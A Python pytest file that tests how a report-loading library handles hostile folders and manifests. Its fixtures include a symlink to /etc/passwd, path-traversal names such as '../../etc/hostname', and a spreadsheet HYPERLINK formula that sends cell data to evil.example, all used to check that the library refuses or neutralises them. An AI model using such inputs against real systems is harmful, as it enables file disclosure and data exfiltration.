"""Hostile folders: every bad entry gives a problem row (or a clear ReportError), never a
traceback, a hang or a silently wrong result; the good report beside it still loads, and the
folder is left exactly as it was.

Each case builds one hostile entry in a fresh folder next to a copy of one seed report and
runs ``load_reports(folder, errors="collect")`` in a thread with a time limit.
"""

from __future__ import annotations

import codecs
import hashlib
import os
import stat
import tempfile
import threading
import time
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from support import SEED_FILES, SEEDS, copy_seed

import helpers
from helpers import cache as _cache
from helpers import segmentation
from helpers.appendix import Appendix
from helpers.errors import ReportError
from helpers.manifest import read_manifest, safe_filename, write_manifest

GOOD = "003_5834ccae6790da4b.txt"  # zhenjiang-2013
OTHER = "000_227b57bffbdecf9d.txt"  # taicang-2019
TIME_LIMIT = 20  # seconds; a FIFO that is opened would wait forever
HEADER = "file,id,title\n"


# --------------------------------------------------------------------------
# Running a load safely, and checking that the folder did not change
# --------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[bytes, tuple]:
    """Every entry under ``folder`` (bytes names): file hashes, link targets, or lstat facts.

    Nothing is opened but regular files, so a FIFO is compared by its lstat information.
    """
    found = {}
    for root, dirs, files in os.walk(os.fsencode(folder)):
        for name in dirs + files:
            path = os.path.join(root, name)
            info = os.lstat(path)
            if stat.S_ISLNK(info.st_mode):
                found[path] = ("link", os.readlink(path))
            elif stat.S_ISREG(info.st_mode) and info.st_mode & 0o444:
                with open(path, "rb") as f:
                    found[path] = ("file", hashlib.sha256(f.read()).hexdigest(), info.st_mode)
            else:
                found[path] = ("other", info.st_mode, info.st_size, info.st_ino, info.st_mtime_ns)
    return found


def load_with_time_limit(folder: Path):
    """load_reports(folder, errors="collect") in a thread: (result or exception, seconds)."""
    outcome: dict = {}

    def run():
        try:
            outcome["value"] = helpers.load_reports(folder, errors="collect")
        except BaseException as err:  # handed to the test to judge
            outcome["value"] = err

    start = time.perf_counter()
    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(TIME_LIMIT)
    assert not thread.is_alive(), f"load_reports did not finish within {TIME_LIMIT} s (a hang)"
    return outcome["value"], time.perf_counter() - start


# --------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------


def symlink_loop(folder: Path) -> None:
    os.symlink("loop_b.txt", folder / "loop_a.txt")
    os.symlink("loop_a.txt", folder / "loop_b.txt")


def symlink_outside(folder: Path) -> None:
    os.symlink("/etc/passwd", folder / "passwd.txt")


def symlink_inside(folder: Path) -> None:
    (folder / "kept").mkdir()
    copy_seed(OTHER, folder / "kept")
    os.symlink(f"kept/{OTHER}", folder / "inside.txt")


def dangling_symlink(folder: Path) -> None:
    os.symlink("nowhere.txt", folder / "dangling.txt")


def fifo_report(folder: Path) -> None:
    os.mkfifo(folder / "pipe.txt")


def fifo_manifest(folder: Path) -> None:
    os.mkfifo(folder / "manifest.csv")


def non_utf8_name(folder: Path) -> None:
    name = os.path.join(os.fsencode(folder), "报告".encode("gbk") + b".txt")
    with open(name, "wb") as f:
        f.write((SEEDS / OTHER).read_bytes())


def manifest_row(file: str, report_id: str = "x"):
    def build(folder: Path) -> None:
        (folder / "manifest.csv").write_text(
            HEADER + f"{GOOD},zhenjiang-2013,\n{file},{report_id},\n", encoding="utf-8"
        )

    return build


def nfc_nfd_ids(folder: Path) -> None:
    copy_seed(OTHER, folder)
    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    (folder / "manifest.csv").write_text(
        HEADER + f"{GOOD},{nfc},\n{OTHER},{nfd},\n", encoding="utf-8"
    )


def zero_width_only(folder: Path) -> None:
    (folder / "invisible.txt").write_text("\u200b\u200c\u200d\u2060\ufeff" * 200, encoding="utf-8")


def bom_and_nul(folder: Path) -> None:
    data = codecs.BOM_UTF8 + "法治政府建设报告\n".encode() + b"\x00\x01\x00binary" * 40
    (folder / "bom_nul.txt").write_bytes(data)


def invisible_in_name(folder: Path) -> None:
    copy_seed(OTHER, folder)
    os.rename(folder / OTHER, folder / "a\u200bb..c.txt")


@dataclass(frozen=True)
class Case:
    name: str
    build: object
    outcome: str  # "problem": a problem row; "raise": a ReportError; "loads": an extra row
    file: str = ""  # the problem row's file, or the id that loads
    phrase: str = ""  # in the problem's reason or the error's message


CASES = [
    Case("symlink loop", symlink_loop, "problem", "loop_a.txt", "loop"),
    Case("symlink to /etc/passwd", symlink_outside, "problem", "passwd.txt", "outside the folder"),
    Case("symlink inside the folder", symlink_inside, "loads", "inside"),
    Case("dangling symlink", dangling_symlink, "problem", "dangling.txt", "does not exist"),
    Case("FIFO as a report", fifo_report, "problem", "pipe.txt", "named pipe (FIFO)"),
    Case("FIFO as manifest.csv", fifo_manifest, "raise", "", "named pipe (FIFO)"),
    Case(
        "file name not UTF-8",
        non_utf8_name,
        "problem",
        "\\xb1\\xa8\\xb8\\xe6.txt",
        "not valid UTF-8",
    ),
    Case(
        "manifest file ../../etc/hostname",
        manifest_row("../../etc/hostname"),
        "raise",
        "",
        "not a plain file name",
    ),
    Case("manifest file absolute", manifest_row("/etc/hostname"), "raise", "", "plain file name"),
    Case("manifest file hidden", manifest_row(".hidden.txt"), "raise", "", "hidden file"),
    Case("id ../../x", manifest_row(OTHER, "../../x"), "raise", "", "cannot be used as an id"),
    Case("id a/b", manifest_row(OTHER, "a/b"), "raise", "", "cannot be used as an id"),
    Case("ids NFC vs NFD", nfc_nfd_ids, "raise", "", "appears more than once"),
    Case("zero-width only", zero_width_only, "problem", "invisible.txt", "no visible text"),
    Case("BOM and NUL bytes", bom_and_nul, "problem", "bom_nul.txt", "NUL"),
    Case("invisible character in a name", invisible_in_name, "loads", "a_b_c"),
]


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_a_hostile_entry_gives_its_outcome_and_the_good_report_still_loads(case, tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    case.build(folder)
    before = snapshot(tmp_path)
    result, seconds = load_with_time_limit(folder)
    assert snapshot(tmp_path) == before, "the folder changed"
    if case.outcome == "raise":
        assert isinstance(result, ReportError), result
        assert case.phrase in str(result) and "manifest" in str(result)
        return
    assert not isinstance(result, BaseException), repr(result)
    reports, problems = result
    assert GOOD in set(reports["file"]), "the good report did not load"
    if case.outcome == "problem":
        row = problems[problems["file"] == case.file]
        assert len(row) == 1, problems.to_dict("records")
        assert case.phrase in row["reason"].iloc[0] and not row["loaded"].iloc[0]
    else:
        assert case.file in set(reports["id"]), reports["id"].tolist()
    print(f"{case.name}: {case.outcome} in {seconds:.2f} s")


def test_an_unreadable_file_is_a_problem_row_not_a_traceback(tmp_path, monkeypatch):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    locked = copy_seed(OTHER, folder)
    if os.geteuid() == 0:  # root reads anything: make the system refuse the open, as it would
        real_open = os.open

        def refusing_open(path, flags, *args, **kwargs):
            if os.fspath(path) == os.fspath(locked):
                raise PermissionError(13, "Permission denied", os.fspath(path))
            return real_open(path, flags, *args, **kwargs)

        monkeypatch.setattr(_cache.os, "open", refusing_open)
    else:
        locked.chmod(0)
    try:
        (reports, problems), _ = load_with_time_limit(folder)
    finally:
        locked.chmod(0o644)
    assert list(reports["file"]) == [GOOD]
    reason = problems.set_index("file").loc[OTHER, "reason"]
    assert "permission denied" in reason and "chmod" in reason
    with pytest.raises(ReportError, match=rf"{OTHER}: cannot be read: permission denied"):
        if os.geteuid() != 0:
            locked.chmod(0)
        helpers.read_report(locked)


def test_an_unforeseen_error_in_a_reader_is_a_problem_row(tmp_path, monkeypatch):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    (folder / "page.html").write_text("<html><p>法治政府建设报告</p></html>", encoding="utf-8")

    def broken(data, name):
        raise KeyError("surprise")

    monkeypatch.setitem(helpers.formats._READERS, ".html", broken)
    reports, problems = helpers.load_reports(folder, errors="collect")
    assert list(reports["file"]) == [GOOD]
    assert "KeyError" in problems.set_index("file").loc["page.html", "reason"]
    with pytest.raises(ReportError, match=r"page\.html: could not be read \(KeyError"):
        helpers.load_reports(folder)


def test_raise_mode_gives_a_report_error_for_each_kind(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    symlink_loop(folder)
    with pytest.raises(ReportError, match=r"loop_a\.txt: a symbolic link that leads round"):
        helpers.load_reports(folder)


# --------------------------------------------------------------------------
# Writing: formulas, atomic files, names
# --------------------------------------------------------------------------

TRAP = '=HYPERLINK("//evil.example/"&A1,"点击查看报告")'


def test_a_formula_title_is_neutralised_in_the_manifest_and_reads_back_unchanged(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    (folder / "trap.txt").write_text(TRAP + "\n法治政府建设。\n", encoding="utf-8")
    reports = helpers.load_reports(folder)
    assert reports.set_index("id").at["trap", "title"] == TRAP  # inferred from the first line
    path = write_manifest(reports, folder / "manifest.csv")
    written = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in written and ',"=HYPERLINK' not in written
    again = helpers.load_reports(folder)
    assert again.set_index("id").at["trap", "title"] == TRAP
    assert read_manifest(path).set_index("id").at["trap", "title"] == TRAP


def test_a_manifest_write_that_fails_leaves_nothing_and_a_retry_works(tmp_path, monkeypatch):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    non_utf8_name(folder)
    reports, problems = helpers.load_reports(folder, errors="collect")
    assert len(problems) == 1  # the name that is not UTF-8 is refused, not crashed on
    bad = reports.copy()
    bad.loc[0, "file"] = os.fsdecode(b"\xb1\xa8.txt")  # as if it had been loaded
    with pytest.raises(ReportError, match=r"not valid UTF-8.*nothing was written"):
        write_manifest(bad, folder / "manifest.csv")
    assert not (folder / "manifest.csv").exists()

    def crash(*args, **kwargs):
        raise RuntimeError("the disk vanished")

    monkeypatch.setattr(_cache.os, "link", crash)
    with pytest.raises(RuntimeError, match="vanished"):
        write_manifest(reports, folder / "manifest.csv")
    assert not os.path.lexists(folder / "manifest.csv")
    assert not [name for name in os.listdir(folder) if name.startswith(".fazhi-tmp-")]
    monkeypatch.undo()
    write_manifest(reports, folder / "manifest.csv")  # the retry is not refused
    again, _ = helpers.load_reports(folder, errors="collect")
    assert list(again["file"]) == [GOOD] and again["source"].tolist() == ["manifest"]


def test_safe_filename_refuses_ids_that_are_paths():
    assert safe_filename("taicang-2019") == "taicang-2019.txt"
    assert safe_filename("cafe\u0301") == "caf\u00e9.txt"
    for bad in ("../../x", "a/b", "a\\b", "..", ".hidden", "a\u200bb", "", "x" * 300):
        with pytest.raises(ValueError, match="cannot be a file name"):
            safe_filename(bad)


def test_no_write_goes_outside_the_named_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("mine", encoding="utf-8")
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    before = snapshot(outside)
    reports = helpers.load_reports(folder)
    write_manifest(reports, folder / "manifest.csv")
    appendix = Appendix(tmp_path / "appendix", parameters={})
    with pytest.raises(ValueError, match="not a usable file name"):
        appendix.table("../outside/keep", pd.DataFrame({"a": [1]}))
    (appendix.folder / "tables").rmdir()
    os.symlink(outside, appendix.folder / "tables")  # a planted link out of the appendix
    with pytest.raises(ValueError, match="outside"):
        appendix.table("demo", pd.DataFrame({"a": ["=1+1"]}))
    assert snapshot(outside) == before
    assert sorted(p.name for p in folder.iterdir()) == [GOOD, "manifest.csv"]


# --------------------------------------------------------------------------
# A large manifest
# --------------------------------------------------------------------------


def test_a_200000_row_manifest_loads_in_a_few_seconds(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    copy_seed(GOOD, folder)
    lines = [f"{GOOD},zhenjiang-2013,镇江市2013年政府法制工作总结"]
    lines += [f"r{i:06d}.txt,r-{i},某某市{i}年法治政府建设情况报告" for i in range(199_999)]
    (folder / "manifest.csv").write_text(HEADER + "\n".join(lines) + "\n", encoding="utf-8")
    start = time.perf_counter()
    reports, problems = helpers.load_reports(folder, errors="collect")
    seconds = time.perf_counter() - start
    assert list(reports["id"]) == ["zhenjiang-2013"] and len(problems) == 199_999
    assert seconds < 10, f"{seconds:.1f} s"


# --------------------------------------------------------------------------
# jieba's dictionary cache
# --------------------------------------------------------------------------


def test_jieba_keeps_its_dictionary_cache_in_the_project_cache_not_a_shared_folder(
    tmp_path, monkeypatch
):
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    (shared / "jieba.cache").write_bytes(b"planted by someone else")
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    before = snapshot(shared)
    previous = _cache.cache_dir()
    _cache.set_cache_dir(tmp_path / "cache")
    segmentation._jieba_tokenizer.cache_clear()
    try:
        cutter = segmentation.tokenizer(vocabulary=False)
        assert cutter.lcut("推行一网通办") == ["推行", "一网通", "办"]
        assert Path(cutter.tmp_dir) == tmp_path / "cache" / "jieba"
        files = list((tmp_path / "cache" / "jieba").iterdir())
        assert [p.name for p in files] == [f"{segmentation.jieba_dictionary_sha256()}.cache"]
    finally:
        segmentation._jieba_tokenizer.cache_clear()
        _cache.set_cache_dir(previous)
    assert snapshot(shared) == before


def test_the_segmentation_cache_key_covers_jiebas_dictionary(monkeypatch):
    before = segmentation.data_version.__wrapped__()
    monkeypatch.setattr(segmentation, "jieba_dictionary_sha256", lambda: "0" * 64)
    assert segmentation.data_version.__wrapped__() != before


def test_a_link_to_a_report_in_the_same_folder_does_not_replace_the_report(tmp_path: Path) -> None:
    # Review of issue 16 (F3): without a manifest, a link whose name sorts first used to load
    # under its own name while the real file was refused as a duplicate.
    folder = tmp_path / "reports"
    folder.mkdir()
    real = copy_seed(SEED_FILES[0].name, folder)
    (folder / "000-link.txt").symlink_to(real.name)
    reports, problems = helpers.load_reports(folder, errors="collect")
    assert reports["file"].tolist() == [real.name]
    assert problems["file"].tolist() == ["000-link.txt"]
    assert "same bytes" in problems["reason"].iloc[0]
